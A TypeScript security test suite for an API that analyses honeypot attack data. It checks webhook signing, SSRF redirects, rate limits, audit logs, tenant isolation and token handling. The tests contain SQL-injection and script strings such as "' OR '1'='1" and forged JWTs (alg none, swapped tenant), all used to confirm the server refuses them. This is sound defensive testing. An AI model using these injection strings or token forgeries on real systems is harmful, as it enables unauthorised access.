    expect(verifySignature(`${secretA.doc.secret}x`, signature, hit.body, now)).toBe(false)
    expect(verifySignature(secretA.doc.secret, signature, `${hit.body} `, now)).toBe(false)
    // Neither the server's own secret nor tenant B's verifies it: B's receivers cannot be fed A's
    // deliveries, nor A's receiver forge B's.
    const secretB = await call(d.url, "GET", "/webhooks/secret", { key: d.adminB })
    expect(secretB.doc.secret).not.toBe(secretA.doc.secret)
    expect(verifySignature(secretB.doc.secret, signature, hit.body, now)).toBe(false)
    expect(verifySignature(WEBHOOK_SECRET, signature, hit.body, now)).toBe(false)
    const payload = JSON.parse(hit.body)
    expect(payload.event).toBe("analysis.finished")
    expect(payload.analysis_id).toBe(good)
    expect(payload.status).toBe("completed")
    expect(hit.headers.get("coord-delivery-id")).toBe(`${good}-finished`)

    // The redirect: the first receiver was asked once (a refused hop is final, not retried),
    // the loopback target it pointed at never.
    expect(hitsOf(`first:/redirect/${tag}`)).toHaveLength(1)
    expect(hitsOf(`second:/landed/redirect/${tag}`)).toHaveLength(0)
    expect(hitsOf("second:")).toHaveLength(0)
    if (d.databaseUrl !== undefined) {
      const rows = psql(d.databaseUrl, `SELECT attempt, delivered, url, coalesce(error, '') FROM webhook_deliveries WHERE analysis_id = '${redirected}' ORDER BY attempt`)
      const attempts = rows.split("\n").filter((l) => l !== "")
      expect(attempts).toHaveLength(1)
      expect(attempts[0]).toStartWith(`1|f|http://127.0.0.1:${second.port}/landed/redirect/${tag}|`)
      expect(attempts[0]).toContain("loopback")
    }
  })
}

const hostileStringChecks = (get: () => Deployment) =>
  test("SQL and script strings and NUL in payloads, sources, names and query parameters: kept verbatim, no effect", async () => {
    const d = get()
    const analyst = (await createKey(d.url, d.adminA, "analyst")).key
    // Raw cowrie logs whose client version, credential and URL carry the strings: the Result's
    // campaign indicators hold them exactly.
    const raw = await call(d.url, "POST", "/analyze/coordination?format=cowrie", { key: analyst, body: hostileCowrie(), contentType: "application/x-ndjson" })
    expectStatus(raw, 202, "hostile cowrie logs")
    const rawDoc = await finished(d.url, analyst, raw.doc.analysis_id)
    expect(rawDoc.status).toBe("completed")
    const indicators = (rawDoc.result.campaigns as Array<{ indicators: Array<{ type: string; value: string }> }>).flatMap((c) => c.indicators)
    for (const indicator of HOSTILE_INDICATORS) expect(indicators).toContainEqual(indicator)

    // JSON sessions with the strings in payload, protocol and source_ip: accepted, analysed,
    // the bad address counted as rejected.
    const body = {
      attack_sessions: [
        { source_ip: SQLI, timestamp: "2024-04-03T08:00:00Z", payload: `${SQLI} ${XSS} \u0000` },
        { source_ip: "203.0.113.9", timestamp: "2024-04-03T08:00:00Z", payload: `${XSS}\u0000${SQLI}`, protocol: XSS.slice(0, 16) },
        { source_ip: "203.0.113.8", timestamp: "2024-04-03T08:00:01Z", payload: `${XSS}\u0000${SQLI}` }
      ]
    }
    const sessionsDoc = await finished(d.url, analyst, await submit(d.url, analyst, body))
    expect(sessionsDoc.status).toBe("completed")
    expect(sessionsDoc.result.input.sessions).toBe(2)
    expect(sessionsDoc.result.input.rejected).toEqual({ bad_ip: 1 })

    // A key name is stored and listed verbatim; NUL, which the store cannot hold, is a 400.
    const named = await createKey(d.url, d.adminA, "viewer", { name: `${XSS}${SQLI}` })
    const listed = await call(d.url, "GET", "/keys", { key: d.adminA })
    expect((listed.doc.keys as Array<{ id: string; name: string }>).find((k) => k.id === named.id)?.name).toBe(`${XSS}${SQLI}`)
    expectProblem(await call(d.url, "POST", "/keys", { key: d.adminA, json: { role: "viewer", name: "a\u0000b" } }), 400, "NUL in a key name")
    // callback_url: not URLs, or NUL inside → 400, never a store failure.
    for (const url of [SQLI, XSS, `http://93.184.216.34/${SQLI}\u0000`]) {
      expectProblem(await call(d.url, "POST", "/analyze/coordination", { key: analyst, json: { ...sessions(2), callback_url: url } }), 400, `callback_url ${JSON.stringify(url)}`)
    }

    // Query parameters: matched as data, never as SQL.
    for (const indicator of [SQLI, XSS, "\u0000", `${SQLI}\u0000`, "' OR '1'='1"]) {
      const a = await call(d.url, "GET", `/campaigns?indicator=${encodeURIComponent(indicator)}`, { key: analyst })
      expectStatus(a, 200, `indicator=${JSON.stringify(indicator)}`)
      expect(a.doc.campaigns).toEqual([])
    }
    // A cursor is (last_seen, id) of the previous page: with the strings as its id and a
    // last_seen after everything, the page is the whole list, no more and no less.
    const everything = await call(d.url, "GET", "/campaigns", { key: analyst })
    for (const id of [SQLI, `c-0' OR '1'='1`, `${XSS}`]) {
      const cursor = Buffer.from(JSON.stringify(["2999-01-01T00:00:00Z", id])).toString("base64url")
      const a = await call(d.url, "GET", `/campaigns?cursor=${cursor}`, { key: analyst })
      expectStatus(a, 200, `cursor with ${JSON.stringify(id)}`)
      expect(a.doc.campaigns).toEqual(everything.doc.campaigns)
      const before = Buffer.from(JSON.stringify(["1970-01-01T00:00:00Z", id])).toString("base64url")
      expect((await call(d.url, "GET", `/campaigns?cursor=${before}`, { key: analyst })).doc.campaigns).toEqual([])
    }
    for (const cursor of [SQLI, Buffer.from(JSON.stringify(["2999-01-01T00:00:00Z", "a\u0000b"])).toString("base64url"), `${SQLI}\u0000`]) {
      expectProblem(await call(d.url, "GET", `/campaigns?cursor=${encodeURIComponent(cursor)}`, { key: analyst }), 400, `cursor ${JSON.stringify(cursor)}`)
    }
    expectProblem(await call(d.url, "GET", `/campaigns?first_seen_after=${encodeURIComponent("2024-01-01\u0000")}`, { key: analyst }), 400, "NUL in first_seen_after")
    expectProblem(await call(d.url, "GET", `/analyze/${encodeURIComponent(SQLI)}`, { key: analyst }), 400, "analysis id")
    expectProblem(await call(d.url, "DELETE", `/keys/${encodeURIComponent(SQLI)}`, { key: d.adminA }), 400, "key id")

    // No effect: the keys table is there and every key still works.
    expectStatus(await call(d.url, "GET", "/keys", { key: d.adminA }), 200, "GET /keys afterwards")
    expectStatus(await call(d.url, "GET", "/campaigns", { key: analyst }), 200, "analyst key afterwards")
    expectStatus(await call(d.url, "GET", "/health/ready"), 200, "ready afterwards")
  })

const forge = async (d: Deployment, claims: { sub: string; tenant: string; role: string }, options: { secret?: Uint8Array; kid?: string; iat: number; exp: number }) =>
  new SignJWT({ tenant: claims.tenant, role: claims.role })
    .setProtectedHeader({ alg: "HS256", kid: options.kid ?? d.kid, typ: "JWT" })
    .setSubject(claims.sub)
    .setIssuer("dshield-coord")
    .setAudience("dshield-coord-api")
    .setIssuedAt(options.iat)
    .setExpirationTime(options.exp)
    .setJti(randomUUID())
    .sign(options.secret ?? d.jwtSecret)

const tokenChecks = (get: () => Deployment) => {
  test("tokens: a forged signature, alg none, an expired or revoked token → 401; the correctly signed one works", async () => {
    const d = get()
    const admin = await createKey(d.url, d.adminA, "admin")
    const issued = await call(d.url, "POST", "/auth/token", { key: admin.key })
    expectStatus(issued, 200, "POST /auth/token")
    expect(issued.doc.token_type).toBe("Bearer")
    expect(issued.doc.refresh_token).toStartWith("dsr_")
    expectStatus(await call(d.url, "GET", "/keys", { bearer: issued.doc.access_token }), 200, "issued token")

    const claims = { sub: admin.id, tenant: d.tenantA, role: "admin" }
    const now = Math.floor(Date.now() / 1000)
    // Control: forged with the server's own ring and a live lifetime, it works — so the
    // refusals below are for the one thing each changes.
    expectStatus(await call(d.url, "GET", "/keys", { bearer: await forge(d, claims, { iat: now, exp: now + 600 }) }), 200, "correctly signed token")
    const other = new Uint8Array(randomBytes(32))
    const refusals: Array<[string, string]> = [
      ["signed with another secret under the same kid", await forge(d, claims, { secret: other, iat: now, exp: now + 600 })],
      ["signed under an unknown kid", await forge(d, claims, { kid: "nope", iat: now, exp: now + 600 })],
      ["expired", await forge(d, claims, { iat: now - 3600, exp: now - 1800 })],
      ["alg none", `${b64url({ alg: "none", typ: "JWT", kid: d.kid })}.${b64url({ ...claims, iss: "dshield-coord", aud: "dshield-coord-api", iat: now, exp: now + 600, jti: randomUUID() })}.`],
      ["alg none, signature kept", `${b64url({ alg: "none", typ: "JWT", kid: d.kid })}.${issued.doc.access_token.split(".")[1]}.${issued.doc.access_token.split(".")[2]}`],
      ["payload swapped to another tenant", `${issued.doc.access_token.split(".")[0]}.${b64url({ ...jwtPayload(issued.doc.access_token), tenant: d.tenantB })}.${issued.doc.access_token.split(".")[2]}`],
      ["for another audience", await new SignJWT({ tenant: d.tenantA, role: "admin" }).setProtectedHeader({ alg: "HS256", kid: d.kid }).setSubject(admin.id).setIssuer("dshield-coord").setAudience("elsewhere").setIssuedAt(now).setExpirationTime(now + 600).setJti(randomUUID()).sign(d.jwtSecret)]
    ]
    for (const [what, token] of refusals) {
      expectProblem(await call(d.url, "GET", "/keys", { bearer: token }), 401, `token ${what}`)
      expectProblem(await call(d.url, "POST", "/analyze/coordination", { bearer: token, json: sessions(2) }), 401, `token ${what}`)
    }

    // Revocation: the token works until POST /auth/revoke, then never.
    const another = await call(d.url, "POST", "/auth/token", { key: admin.key })
    expectStatus(await call(d.url, "GET", "/keys", { bearer: another.doc.access_token }), 200, "token before revocation")
    expectStatus(await call(d.url, "POST", "/auth/revoke", { key: admin.key, json: { token: another.doc.access_token } }), 204, "POST /auth/revoke")
    expectProblem(await call(d.url, "GET", "/keys", { bearer: another.doc.access_token }), 401, "revoked token")
    expectProblem(await call(d.url, "GET", "/campaigns", { bearer: another.doc.access_token }), 401, "revoked token")
    // The other token of the same key is not affected.
    expectStatus(await call(d.url, "GET", "/keys", { bearer: issued.doc.access_token }), 200, "other token")
  })

  test("refresh: a new pair; reusing the old refresh token → 401 and revokes the new one too", async () => {
    const d = get()
    const admin = await createKey(d.url, d.adminA, "admin")
    const pair1 = await call(d.url, "POST", "/auth/token", { key: admin.key })
    const pair2 = await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: pair1.doc.refresh_token } })
    expectStatus(pair2, 200, "refresh")
    expect(pair2.doc.refresh_token).not.toBe(pair1.doc.refresh_token)
    expect(pair2.doc.access_token).not.toBe(pair1.doc.access_token)
    expect(jwtPayload(pair2.doc.access_token).role).toBe("admin")
    expectStatus(await call(d.url, "GET", "/keys", { bearer: pair2.doc.access_token }), 200, "refreshed access token")
    expectProblem(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: pair1.doc.refresh_token } }), 401, "old refresh token reused")
    expectProblem(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: pair2.doc.refresh_token } }), 401, "new refresh token after reuse")
    // Refresh tokens are not bearer credentials, nor valid with a guessed secret.
    expectProblem(await call(d.url, "GET", "/keys", { bearer: pair1.doc.refresh_token }), 401, "refresh token as bearer")
    expectProblem(await call(d.url, "GET", "/keys", { key: pair1.doc.refresh_token }), 401, "refresh token as key")
    const pair3 = await call(d.url, "POST", "/auth/token", { key: admin.key })
    const forgedRefresh = `dsr_${pair3.doc.refresh_token.split("_")[1]}_${randomBytes(32).toString("base64url")}`
    expectProblem(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: forgedRefresh } }), 401, "refresh token with a wrong secret")
    expectStatus(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: pair3.doc.refresh_token } }), 200, "the real one still works")
  })

  test("refresh: one refresh token used by 8 concurrent requests → one new pair, and that pair's refresh token is revoked too", async () => {
    const d = get()
    const admin = await createKey(d.url, d.adminA, "admin")
    const pair = await call(d.url, "POST", "/auth/token", { key: admin.key })
    const answers = await Promise.all(Array.from({ length: 8 }, () => call(d.url, "POST", "/auth/refresh", { json: { refresh_token: pair.doc.refresh_token } })))
    const winners = answers.filter((a) => a.status === 200)
    expect(winners).toHaveLength(1)
    for (const a of answers) if (a.status !== 200) expectProblem(a, 401, "concurrent reuse")
    expectProblem(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: winners[0]!.doc.refresh_token } }), 401, "the winner's refresh token after the reuse")
  })
}

/** 50 concurrent GET /campaigns with one key against a read limit of 20 a minute. */
const expectExactLimit = async (url: string, key: string): Promise<void> => {
  const answers = await Promise.all(Array.from({ length: 50 }, () => call(url, "GET", "/campaigns", { key })))
  const ok = answers.filter((a) => a.status === 200)
  const limited = answers.filter((a) => a.status === 429)
  expect({ ok: ok.length, limited: limited.length }).toEqual({ ok: 20, limited: 30 })
  for (const a of ok) expect(a.headers.get("ratelimit-limit")).toBe("20")
  for (const a of limited) {
    expectProblem(a, 429, "rate limited")
    expect(a.doc.type).toBe("urn:dshield-coord:problem:rate-limited")
    const retryAfter = Number(a.headers.get("retry-after"))
    expect(Number.isInteger(retryAfter) && retryAfter >= 1 && retryAfter <= 60).toBe(true)
    expect(a.headers.get("ratelimit-limit")).toBe("20")
    expect(a.headers.get("ratelimit-remaining")).toBe("0")
    expect(Number(a.headers.get("ratelimit-reset"))).toBeGreaterThan(0)
  }
  // Remaining counts down over the admitted ones: 19 … 0, each once.
  expect(ok.map((a) => Number(a.headers.get("ratelimit-remaining"))).sort((x, y) => x - y)).toEqual(Array.from({ length: 20 }, (_, i) => i))
}

const RATE_LIMIT_ENV = {
  DSHIELD_RATE_LIMIT_READ: "20/1m",
  DSHIELD_RATE_LIMIT_PRINCIPAL: "100000/1m",
  DSHIELD_RATE_LIMIT_IP: "100000/1m",
  DSHIELD_RATE_LIMIT_SUBMIT: "100000/1m"
}

type AuditRow = { row: string; request_id: string | null; client_ip: string | null; detail: { reason?: string; path?: string } }

/** Audit rows of `audit tail -n 50`, as JSON. */
const auditTail = async (d: Deployment): Promise<Array<AuditRow>> => {
  const out = await cliOk(["audit", "tail", "-n", "50", ...d.storeFlags], d.cwd, d.env)
  return out.split("\n").filter((l) => l.trim() !== "").map((l) => JSON.parse(l))
}

const expectAudited = (rows: ReadonlyArray<AuditRow>, requestIds: ReadonlyArray<string>): void => {
  for (const id of requestIds) {
    const row = rows.find((r) => r.request_id === id)
    expect(row, `audit row of request ${id}`).toBeDefined()
    // One row per refused request, however many schemes refused it.
    expect(rows.filter((r) => r.request_id === id), `audit rows of request ${id}`).toHaveLength(1)
    expect(row!.row).toBe("auth_failed")
    expect(typeof row!.detail.reason).toBe("string")
    expect(row!.client_ip).toMatch(/^(127\.0\.0\.1|::1|::ffff:127\.0\.0\.1)$/)
  }
}

/**
 * A failed request that claims its own request id and client address (X-Request-Id,
 * X-Forwarded-For without --trust-proxy, the edge's internal header): its response's id.
 */
const SPOOFED_IDS = { "x-request-id": "chosen-by-the-client", "x-forwarded-for": "198.51.100.66", "x-dshield-client-ip": "198.51.100.67" }
const spoofedFailure = async (d: Deployment): Promise<string> => {
  const response = await fetch(`${d.url}/keys`, { headers: { ...SPOOFED_IDS, "x-api-key": wrongSecret(d.adminA) } })
  const doc = await response.json() as { request_id: string }
  expect(response.status).toBe(401)
  expect(doc.request_id).toMatch(UUID)
  expect(response.headers.get("x-request-id")).toBe(doc.request_id)
  return doc.request_id
}

const expectNotSpoofed = (rows: ReadonlyArray<AuditRow>): void => {
  for (const r of rows) {
    expect(r.request_id).not.toBe(SPOOFED_IDS["x-request-id"])
    expect([SPOOFED_IDS["x-forwarded-for"], SPOOFED_IDS["x-dshield-client-ip"]]).not.toContain(r.client_ip)
  }
}

const psql = (url: string, statement: string): string => {
  const r = Bun.spawnSync(["psql", url, "-qAt", "-v", "ON_ERROR_STOP=1", "-c", statement], { stdout: "pipe", stderr: "pipe" })
  if (r.exitCode !== 0) throw new Error(`psql failed: ${r.stderr.toString()}`)
  return r.stdout.toString()
}

// ------------------------------------------------------------------ the embedded store

describe("HTTP API security, embedded store (PGlite)", () => {
  let d: Deployment
  let limited: Serving
  let limitsAdmin: string
  const get = () => d

  beforeAll(async () => {
    const ring = jwtRing()
    const mainDir = tempDir()
    const limitDir = tempDir()
    const env = childEnv({ DSHIELD_JWT_KEYS: ring.env, DSHIELD_WEBHOOK_SECRET: WEBHOOK_SECRET })
    const storeFlags = ["--data-dir", join(mainDir, "db")]
    const [keys, limitKey] = await Promise.all([
      (async () => {
        const a = (await cliOk(["keys", "create", "--role", "admin", "--tenant", "tenant-a", ...storeFlags], mainDir, env)).trim()
        const b = (await cliOk(["keys", "create", "--role", "admin", "--tenant", "tenant-b", ...storeFlags], mainDir, env)).trim()
        return { a, b }
      })(),
      cliOk(["keys", "create", "--role", "admin", "--tenant", "limits", "--data-dir", join(limitDir, "db")], limitDir, env).then((t) => t.trim())
    ])
    const [server, limiter] = await Promise.all([
      serve([...MAIN_FLAGS, ...storeFlags], mainDir, env),
      serve(["--threads", "1", "--data-dir", join(limitDir, "db")], limitDir, childEnv({ ...RATE_LIMIT_ENV, DSHIELD_WEBHOOK_SECRET: WEBHOOK_SECRET }))
    ])
    d = { label: "embedded", server, url: server.url, kid: ring.kid, jwtSecret: ring.secret, adminA: keys.a, tenantA: "tenant-a", adminB: keys.b, tenantB: "tenant-b", cwd: mainDir, env, storeFlags }
    limited = limiter
    limitsAdmin = limitKey
  }, 60_000)

  afterAll(async () => {
    await Promise.all([d?.server.stop(), limited?.stop()])
  })

  publicEndpoints(get)
  corsChecks(get)
  credentialChecks(get)
  roleChecks(get)
  tenantChecks(get)
  limitChecks(get)
  ssrfChecks(get)
  hostileStringChecks(get)
  tokenChecks(get)

  test("rate limit, in-memory limiter: 50 concurrent reads with one key under 20/1m → exactly 20 × 200 and 30 × 429", async () => {
    await expectExactLimit(limited.url, (await createKey(limited.url, limitsAdmin, "viewer")).key)
  })

  test("rate limit: a key's tokens and every spelling of Bearer share the key's one limit", async () => {
    const key = (await createKey(limited.url, limitsAdmin, "viewer")).key
    const tokens: Array<string> = []
    for (let i = 0; i < 3; i++) {
      const issued = await call(limited.url, "POST", "/auth/token", { key })
      expectStatus(issued, 200, "POST /auth/token")
      tokens.push(issued.doc.access_token)
    }
    // 30 reads spread over three tokens and four spellings of the scheme: 20 pass, not 30.
    const spellings = ["Bearer", "bearer", "BEARER", "bEaReR"]
    const answers = await Promise.all(Array.from({ length: 30 }, async (_, i) => {
      const response = await fetch(`${limited.url}/campaigns`, { headers: { authorization: `${spellings[i % 4]} ${tokens[i % 3]}` } })
      await response.arrayBuffer()
      return response.status
    }))
    expect({ ok: answers.filter((s) => s === 200).length, limited: answers.filter((s) => s === 429).length }).toEqual({ ok: 20, limited: 10 })
    // A fresh token of the key is in the same, used-up bucket.
    const fresh = await call(limited.url, "POST", "/auth/token", { key })
    expectStatus(fresh, 200, "POST /auth/token")
    expectProblem(await call(limited.url, "GET", "/campaigns", { bearer: fresh.doc.access_token }), 429, "a new token of the same key")
  })

  test("audit: auth failures are recorded with their request ids (read after the server stopped)", async () => {
    const ids = await expectAllRefused(d, { analysis: `an-${"0".repeat(24)}`, campaign: "c-0000000000000000", key: "AAAAAAAAAAAA" }, { key: wrongSecret(d.adminA) }, "wrong secret")
    const bad = await call(d.url, "GET", "/keys", { bearer: "not.a.token" })
    expectProblem(bad, 401, "garbage token")
    // A wrong key beside a garbage token: refused once, audited once (for the token, which decides).
    const both = await call(d.url, "GET", "/keys", { key: wrongSecret(d.adminA), bearer: "not.a.token" })
    expectProblem(both, 401, "wrong key and garbage token")
    // A wrong key beside a valid token: let in, nothing audited.
    const token = await call(d.url, "POST", "/auth/token", { key: d.adminA })
    expectStatus(token, 200, "POST /auth/token")
    const letIn = await fetch(`${d.url}/keys`, { headers: { "x-api-key": wrongSecret(d.adminA), authorization: `Bearer ${token.doc.access_token}` } })
    await letIn.arrayBuffer()
    expect(letIn.status).toBe(200)
    const spoofed = await spoofedFailure(d)
    await d.server.stop()
    const rows = await auditTail(d)
    expectAudited(rows, [...ids, bad.doc.request_id, both.doc.request_id, spoofed])
    expect(rows.filter((r) => r.request_id === letIn.headers.get("x-request-id"))).toEqual([])
    expectNotSpoofed(rows)
  }, 30_000)
})

// ------------------------------------------------------------------ PostgreSQL

describe.skipIf(!HAVE_POSTGRES)("HTTP API security, PostgreSQL", () => {
  let d: Deployment
  let database: { readonly url: string; readonly drop: () => void } | undefined
  let campaignId: string
  const get = () => d

  beforeAll(async () => {
    database = freshDatabase("dshield_security", true)!
    const ring = jwtRing()
    const dir = tempDir()
    const env = childEnv({ DSHIELD_JWT_KEYS: ring.env, DSHIELD_WEBHOOK_SECRET: WEBHOOK_SECRET })
    const storeFlags = ["--database-url", database.url]
    // Tenant "default" keeps what `analyze --store` stores: a campaign whose indicators carry
    // the hostile strings.
    await Bun.write(join(dir, "hostile.json"), hostileCowrie())
    await cliOk(["analyze", join(dir, "hostile.json"), "--store", "--quiet", ...storeFlags], dir, env)
    const [a, b] = await Promise.all([
      cliOk(["keys", "create", "--role", "admin", "--tenant", "default", ...storeFlags], dir, env),
      cliOk(["keys", "create", "--role", "admin", "--tenant", "tenant-b", ...storeFlags], dir, env)
    ])
    campaignId = psql(database.url, "SELECT id FROM campaigns WHERE tenant = 'default' ORDER BY id LIMIT 1").trim()
    expect(campaignId).toMatch(/^c-[0-9a-f]{16}$/)
    const server = await serve([...MAIN_FLAGS, ...storeFlags], dir, env)
    d = { label: "postgresql", server, url: server.url, kid: ring.kid, jwtSecret: ring.secret, adminA: a.trim(), tenantA: "default", adminB: b.trim(), tenantB: "tenant-b", cwd: dir, env, storeFlags, databaseUrl: database.url, campaignId }
  }, 60_000)

  afterAll(async () => {
    await d?.server.stop()
    database?.drop()
  })

  publicEndpoints(get)
  corsChecks(get)
  credentialChecks(get)

  test("an expired key (expires_at moved into the past) and its token → 401 on every protected endpoint", async () => {
    const expiring = await createKey(d.url, d.adminA, "admin", { expires_in_days: 30 })
    const token = await call(d.url, "POST", "/auth/token", { key: expiring.key })
    expectStatus(token, 200, "token while the key is live")
    expectStatus(await call(d.url, "GET", "/keys", { key: expiring.key }), 200, "key while live")
    psql(d.databaseUrl!, `UPDATE api_keys SET expires_at = now() - interval '1 hour' WHERE id = '${expiring.id}'`)
    const victim = await createKey(d.url, d.adminA, "viewer")
    const analysis = await submit(d.url, d.adminA)
    const ids = { analysis, campaign: campaignId, key: victim.id }
    await expectAllRefused(d, ids, { key: expiring.key }, "expired key")
    await expectAllRefused(d, ids, { bearer: token.doc.access_token }, "token of an expired key")
    expectProblem(await call(d.url, "POST", "/auth/refresh", { json: { refresh_token: token.doc.refresh_token } }), 401, "refresh token of an expired key")
    expectStatus(await call(d.url, "GET", `/campaigns/${campaignId}`, { key: d.adminA }), 200, "the tenant's live admin key")
  })

  test("secrets at rest: keys and refresh tokens are stored as salted sha256 digests, never as text", async () => {
    const a = await createKey(d.url, d.adminA, "viewer")
    const b = await createKey(d.url, d.adminA, "viewer")
    const pair = await call(d.url, "POST", "/auth/token", { key: a.key })
    const [hashA, hashB] = [a, b].map((k) => psql(d.databaseUrl!, `SELECT key_hash FROM api_keys WHERE id = '${k.id}'`).trim())
    // The secret is what follows "dsk_<12-char id>_" (it may itself hold "_", so no split).
    for (const [hash, key] of [[hashA!, a.key], [hashB!, b.key]] as const) {
      expect(key.slice(17)).toHaveLength(43)
      expect(hash).toMatch(/^sha256\$[A-Za-z0-9_-]{22}\$[A-Za-z0-9_-]{43}$/)
      expect(hash).not.toContain(key.slice(17))
    }
    // A salt per row: two keys never share one.
    expect(hashA!.split("$")[1]).not.toBe(hashB!.split("$")[1])
    const refreshId = (pair.doc.refresh_token as string).split("_")[1]!
    const stored = psql(d.databaseUrl!, `SELECT token_hash FROM api_refresh_tokens WHERE id = '${refreshId}'`).trim()
    expect(stored).toMatch(/^sha256\$/)
    expect(stored).not.toContain((pair.doc.refresh_token as string).slice(17))
    const everything = psql(d.databaseUrl!, "SELECT string_agg(t::text, ' ') FROM (SELECT * FROM api_keys) t") + psql(d.databaseUrl!, "SELECT string_agg(t::text, ' ') FROM (SELECT * FROM api_refresh_tokens) t")
    for (const secret of [a.key, b.key, pair.doc.refresh_token as string]) expect(everything).not.toContain(secret.slice(17))
  })

  roleChecks(get)
  tenantChecks(get)

  test("tenants and row-level security: B sees none of A's stored campaigns (404 by id, absent from lists)", async () => {
    const own = await call(d.url, "GET", `/campaigns/${campaignId}`, { key: d.adminA })
    expectStatus(own, 200, "A reads its campaign")
    expectStatus(await call(d.url, "GET", `/campaigns/${campaignId}/timeline`, { key: d.adminA }), 200, "A reads its timeline")
    expect((await call(d.url, "GET", "/campaigns", { key: d.adminA })).doc.campaigns.map((c: { id: string }) => c.id)).toContain(campaignId)
    const bToken = (await call(d.url, "POST", "/auth/token", { key: d.adminB })).doc.access_token as string
    for (const credentials of [{ key: d.adminB }, { bearer: bToken }]) {
      expectProblem(await call(d.url, "GET", `/campaigns/${campaignId}`, credentials), 404, "B reads A's campaign")
      expectProblem(await call(d.url, "GET", `/campaigns/${campaignId}/timeline`, credentials), 404, "B reads A's timeline")
      const list = await call(d.url, "GET", "/campaigns", credentials)
      expectStatus(list, 200, "B lists campaigns")
      expect(list.doc.campaigns).toEqual([])
      const byIndicator = await call(d.url, "GET", `/campaigns?indicator=${encodeURIComponent(HOSTILE_INDICATORS[1]!.value)}`, credentials)
      expect(byIndicator.doc.campaigns).toEqual([])
    }
    // The API's statements run as dshield_app, which owns nothing and may not bypass RLS.
    expect(psql(d.databaseUrl!, "SELECT rolsuper, rolbypassrls FROM pg_roles WHERE rolname = 'dshield_app'").trim()).toBe("f|f")
    expect(psql(d.databaseUrl!, "SELECT count(*) FROM pg_tables WHERE schemaname = 'public' AND tableowner = 'dshield_app'").trim()).toBe("0")
  })

  test("stored campaign indicators with SQL, script and NUL: found by indicator= and returned verbatim", async () => {
    const viewer = (await createKey(d.url, d.adminA, "viewer")).key
    const shown = await call(d.url, "GET", `/campaigns/${campaignId}`, { key: viewer })
    expectStatus(shown, 200, "GET /campaigns/{id}")
    const stored = shown.doc.indicators as Array<{ type: string; value: string }>
    expect(stored).toContainEqual(HOSTILE_INDICATORS[0]!)
    expect(stored).toContainEqual(HOSTILE_INDICATORS[1]!)
    // PostgreSQL text holds no NUL: the store keeps it as U+FFFD.
    expect(stored).toContainEqual({ type: "client_version", value: HOSTILE_INDICATORS[2]!.value.replace("\u0000", "\ufffd") })
    for (const indicator of HOSTILE_INDICATORS) {
      const found = await call(d.url, "GET", `/campaigns?indicator=${encodeURIComponent(indicator.value)}`, { key: viewer })
      expectStatus(found, 200, `indicator=${JSON.stringify(indicator.value)}`)
      expect(found.doc.campaigns.map((c: { id: string }) => c.id)).toEqual([campaignId])
    }
    // A part of an indicator is not the indicator (exact match, no pattern).
    expect((await call(d.url, "GET", `/campaigns?indicator=${encodeURIComponent(SQLI)}`, { key: viewer })).doc.campaigns).toEqual([])
    expect((await call(d.url, "GET", `/campaigns?indicator=${encodeURIComponent("%")}`, { key: viewer })).doc.campaigns).toEqual([])
    expect(psql(d.databaseUrl!, "SELECT count(*) > 0 FROM api_keys").trim()).toBe("t")
    expect(psql(d.databaseUrl!, "SELECT to_regclass('public.api_keys') IS NOT NULL AND to_regclass('public.campaigns') IS NOT NULL").trim()).toBe("t")
  })

  limitChecks(get)
  ssrfChecks(get)
  hostileStringChecks(get)
  tokenChecks(get)

  test("audit: `audit tail` (while the server runs) shows the auth failures with their request ids", async () => {
    const ids = await expectAllRefused(d, { analysis: `an-${"0".repeat(24)}`, campaign: campaignId, key: "AAAAAAAAAAAA" }, { key: wrongSecret(d.adminA) }, "wrong secret")
    const bad = await call(d.url, "GET", "/keys", { bearer: "not.a.token" })
    expectProblem(bad, 401, "garbage token")
    const spoofed = await spoofedFailure(d)
    const rows = await auditTail(d)
    expectAudited(rows, [...ids, bad.doc.request_id, spoofed])
    expectNotSpoofed(rows)
    expect(rows.find((r) => r.request_id === bad.doc.request_id)!.detail.path).toBe("/keys")
  })

  describe.skipIf(!HAVE_REDIS)("with Redis", () => {
    test("rate limit, Redis limiter: 50 concurrent reads with a fresh key under 20/1m → exactly 20 × 200 and 30 × 429", async () => {
      const args = ["--threads", "1", "--database-url", database!.url, "--redis-url", "redis://127.0.0.1:6379"]
      const env = childEnv({ ...RATE_LIMIT_ENV, DSHIELD_JWT_KEYS: `${d.kid}=${Buffer.from(d.jwtSecret).toString("base64")}`, DSHIELD_WEBHOOK_SECRET: WEBHOOK_SECRET })
      const [one, two] = await Promise.all([serve(args, d.cwd, env), serve(args, d.cwd, env)])
      try {
        for (const server of [one, two]) {
          const health = await call(server.url, "GET", "/health")
          expect(health.doc.checks).toContainEqual({ name: "redis", ok: true, detail: expect.stringContaining("shared") })
        }
        // A new key: its bucket in Redis is fresh whatever earlier runs left there.
        const key = (await createKey(d.url, d.adminA, "viewer")).key
        await expectExactLimit(one.url, key)
        // The count lives in Redis: another server process using it refuses the key too,
        // while a different key is still served there.
        expectProblem(await call(two.url, "GET", "/campaigns", { key }), 429, "the same key on a second server")
        expectStatus(await call(two.url, "GET", "/campaigns", { key: d.adminA }), 200, "another key on the second server")
      } finally {
        await Promise.all([one.stop(), two.stop()])
      }
    }, 30_000)
  })
})
